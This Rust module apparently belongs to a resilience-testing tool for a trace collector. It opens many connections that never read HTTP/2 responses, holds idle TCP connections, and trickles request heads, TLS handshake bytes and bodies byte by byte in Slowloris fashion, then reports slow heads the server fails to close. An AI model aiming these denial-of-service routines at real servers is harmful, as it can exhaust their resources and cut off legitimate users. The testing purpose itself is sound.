//! Many connections that do not read, stay idle, or send slowly.

use std::time::Duration;

use futures_util::StreamExt as _;
use futures_util::future::join_all;
use futures_util::stream;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::time::{interval, sleep};

use super::http2::{Attacker, call, get};
use super::report::Finding;
use super::target::{Protocol, Server, Side, Target};
use super::{Deadline, Signal, attacks, raw};

/// Connections that are opened at the same time.
const AT_ONCE: usize = 32;
/// Time for which connections stay open while well-behaved clients are served.
const HOLD: Duration = Duration::from_secs(5);
/// Attempts per connection of [`Options::connections`](super::Options) in attacks with idle connections.
const IDLE: usize = 6;
/// Duration from which on the end of slow requests is checked: `header_timeout` is 10 s by default.
const ENDS_AFTER: u64 = 13;

/// Opens connections with a thousand requests each and reads no response: without a window, or without reading at all.
pub async fn unread(target: &Target, server: Server, reads: bool, end: Deadline) -> Vec<Finding> {
    let block = &match server.path {
        "" => call(raw::method(Signal::Traces)),
        path => get(path),
    };
    let one = |_| async move {
        let stream = target.connect(server.address, Protocol::Http2, Side::Attacker);
        let stream = end.within(stream).await?.ok()?;
        let mut attacker = match reads {
            true => Attacker::on(stream),
            false => Attacker::unread_on(stream),
        };
        let sent = attacks::unread_requests(&mut attacker, reads, block);
        end.within(sent).await??;
        Some(attacker)
    };
    let held: Vec<_> = stream::iter(0..target.options.connections)
        .map(one)
        .buffer_unordered(AT_ONCE)
        .collect()
        .await;
    end.within(sleep(HOLD)).await;
    drop(held);
    Vec::new()
}

/// Opens idle connections from one address, without a handshake too.
pub async fn idle(target: &Target, server: Server, end: Deadline) -> Vec<Finding> {
    let open = |_| end.within(target.tcp(server.address, Side::Attacker));
    let held: Vec<_> = stream::iter(0..target.options.connections * IDLE)
        .map(open)
        .buffer_unordered(AT_ONCE)
        .collect()
        .await;
    end.within(sleep(HOLD)).await;
    drop(held);
    Vec::new()
}

/// Sends heads byte by byte. On a port with TLS the bytes are incomplete handshakes.
pub async fn slow_heads(target: &Target, server: Server, end: Deadline) -> Vec<Finding> {
    let beginning = match server.address.tls {
        // The beginning of a record with a handshake.
        true => &b"\x16\x03\x01\x40\x00"[..],
        false => b"POST /v1/traces HTTP/1.1\r\nx: ",
    };
    let slow = (0..target.options.connections).map(|_| async move {
        let stream = target.tcp(server.address, Side::Attacker).await.ok();
        let trickle = trickle(stream, beginning, b"y");
        end.within(trickle).await.is_some()
    });
    let ended = join_all(slow).await;
    let open = ended.iter().filter(|ended| !**ended).count();
    match target.options.seconds >= ENDS_AFTER {
        true => vec![Finding::none_of("slow heads not ended", open)],
        false => Vec::new(),
    }
}

/// Sends bodies byte by byte. The collector may wait for `body_grace`, 30 s by default.
pub async fn slow_bodies(target: &Target, server: Server, end: Deadline) -> Vec<Finding> {
    let head = attacks::post("content-length: 1000000\r\n");
    let head = &head.replace("/v1/traces", server.path);
    let slow = (0..target.options.connections).map(|_| async move {
        let stream = target.connect(server.address, Protocol::Http1, Side::Attacker);
        end.within(async { trickle(stream.await.ok(), head.as_bytes(), b"y").await })
            .await
    });
    join_all(slow).await;
    Vec::new()
}

/// Writes a beginning and then bytes slowly, until the server ends the connection.
async fn trickle(
    stream: Option<impl tokio::io::AsyncRead + tokio::io::AsyncWrite>,
    beginning: &[u8],
    then: &[u8],
) {
    let Some(stream) = stream else {
        return;
    };
    let (mut read, mut write) = tokio::io::split(stream);
    let writing = async {
        let mut tick = interval(Duration::from_millis(200));
        if write.write_all(beginning).await.is_err() {
            return;
        }
        loop {
            tick.tick().await;
            if write.write_all(then).await.is_err() || write.flush().await.is_err() {
                return;
            }
        }
    };
    let mut answer = Vec::new();
    tokio::select! {
        _ = read.read_to_end(&mut answer) => {}
        () = writing => {}
    }
}
